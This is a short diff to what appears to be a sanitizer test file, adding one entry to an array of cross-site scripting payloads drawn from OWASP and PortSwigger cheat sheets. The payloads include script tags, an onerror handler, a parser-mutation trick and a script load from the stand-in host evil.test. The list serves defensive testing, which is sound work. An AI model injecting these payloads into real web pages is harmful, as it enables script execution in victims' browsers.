@@ -1,6 +1,7 @@
 /** After the cheat sheets of OWASP and PortSwigger, and the mutations that once passed DOMPurify. */
 export const ATTACKS: readonly string[] = [
   '<script>window.ran=1</script>',
+  '<constructor>window.ran=1</constructor>',
   '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
   '<img src=x onerror=window.ran=1>',
   '<img src="x` `<script>window.ran=1</script>"` `>',
